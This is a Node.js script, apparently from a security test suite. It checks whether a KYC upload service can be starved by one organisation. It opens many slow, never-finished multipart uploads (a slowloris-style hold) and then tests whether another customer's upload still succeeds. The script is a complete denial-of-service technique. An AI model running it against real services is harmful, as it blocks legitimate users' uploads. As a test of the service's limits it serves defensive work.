import { readFileSync } from 'node:fs';
import { request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';

export const tries = 'to hold every place for uploads by a few links whose files never end';

const OF_EACH = 20;
const boundary = 'scan-boundary';
const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`;
const headers = { 'content-type': `multipart/form-data; boundary=${boundary}` };

/** Sends the beginning of a file and keeps the connection; says what came back meanwhile. */
function hold(place, photo) {
  const held = { status: null, end: () => call.destroy() };
  const call = request(place, {
    method: 'POST',
    agent: false,
    headers: { ...headers, 'content-length': head.length + 9 * 1_024 * 1_024 },
  });
  call.on('error', () => undefined);
  call.on('response', (response) => {
    held.status = response.statusCode;
    response.resume();
  });
  call.write(head);
  call.write(photo.subarray(0, 4_096));
  return held;
}

function upload(place, photo) {
  const body = Buffer.concat([Buffer.from(head), photo, Buffer.from(`\r\n--${boundary}--\r\n`)]);
  return new Promise((resolve) => {
    const call = request(place, {
      method: 'POST',
      agent: false,
      headers: { ...headers, 'content-length': body.length },
    });
    call.on('error', () => resolve(0));
    call.on('response', (response) => response.resume().on('end', () => resolve(response.statusCode)));
    call.end(body);
  });
}

export async function attack({ url, hostile, victim }) {
  const photo = readFileSync(victim.photo);
  const held = hostile.links.flatMap((link) =>
    Array.from({ length: OF_EACH }, () => hold(`${url}/kyc-sessions/${link}/upload`, photo)),
  );
  try {
    // Whoever is refused is so at once; those that have a place are given up after twenty seconds.
    await sleep(5_000);
    const refused = held.filter(({ status }) => status === 503).length;
    const served = await upload(`${url}/kyc-sessions/${victim.link}/upload`, photo);
    process.stdout.write(
      `  ${held.length} begun, ${refused} refused; the upload of somebody else: ${served}\n`,
    );
    const findings = served === 201 ? [] : [`the upload of somebody else is answered with ${served}`];
    const kept = held.length - refused;
    if (kept > hostile.uploadsInFlight) findings.push(`${kept} places are held by one organisation`);
    return findings;
  } finally {
    for (const one of held) one.end();
  }
}
